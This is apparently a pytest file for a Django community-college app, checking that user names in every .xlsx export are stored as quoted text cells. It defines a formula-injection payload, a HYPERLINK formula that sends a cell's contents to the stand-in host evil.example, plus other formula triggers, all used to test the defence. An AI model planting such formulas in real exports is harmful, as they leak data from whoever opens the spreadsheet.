"""User text in every .xlsx export is a text cell: a name that looks like a formula stays a name."""

from __future__ import annotations

import io

import openpyxl
import pytest

from community_college.cells import from_text_cell, text_cell
from tests.factories import ResidentFactory, TeacherFactory

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?d="&B2,"click me")'


def _cells(content: bytes) -> list:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_no_formula_and_name_is_text(content: bytes, name: str = EVIL) -> None:
    cells = _cells(content)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert "'" + name in [c.value for c in cells]


@pytest.mark.parametrize("value", [EVIL, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_every_formula_trigger_is_neutralised_and_read_back(value):
    assert text_cell(value) == "'" + value
    assert from_text_cell(text_cell(value)) == value


@pytest.mark.parametrize("value", ["王芳", "", "'quoted", "a=b", 12, -3.5, None])
def test_ordinary_values_are_left_alone(value):
    assert text_cell(value) == value
    assert from_text_cell(value) == value


def test_admin_user_export(world, client):
    ResidentFactory(profile__community=world.home, name=EVIL)
    ResidentFactory(profile__community=world.home, name="王芳")
    client.force_login(world.staff)
    response = client.post(
        "/admin/accounts/user/export/",
        {"format": "0", **{f"residentresource_{f}": "on" for f in ("id", "name", "phone", "community")}},
    )
    assert response.status_code == 200
    _assert_no_formula_and_name_is_text(response.content)
    assert "王芳" in [c.value for c in _cells(response.content)]


def test_admin_resident_profile_export(world, client):
    ResidentFactory(profile__community=world.home, name=EVIL)
    client.force_login(world.staff)
    page = client.get("/admin/interests/residentprofile/export/")
    fields = {name: "on" for name in page.context["form"].fields if name.startswith("residentresource_")}
    response = client.post("/admin/interests/residentprofile/export/", {"format": "0", **fields})
    assert response.status_code == 200
    _assert_no_formula_and_name_is_text(response.content)


def test_admin_teacher_export(world, client):
    TeacherFactory(community=world.home, name=EVIL)
    client.force_login(world.staff)
    response = client.post(
        "/admin/teachers/teacher/export/", {"format": "0", "teacherresource_id": "on", "teacherresource_name": "on"}
    )
    _assert_no_formula_and_name_is_text(response.content)


def test_dashboard_teachers_export(world, client):
    TeacherFactory(community=world.home, name=EVIL)
    TeacherFactory(community=world.elsewhere, name="周老师")
    client.force_login(world.district_office)
    response = client.get("/dashboards/teachers/export.xlsx")
    assert response.status_code == 200
    _assert_no_formula_and_name_is_text(response.content)


def test_api_dashboard_teachers_xlsx(world, api):
    TeacherFactory(community=world.home, name=EVIL)
    response = api(world.district_office).get("/api/v1/district/dashboards/teachers.xlsx")
    assert response.status_code == 200
    _assert_no_formula_and_name_is_text(response.content)
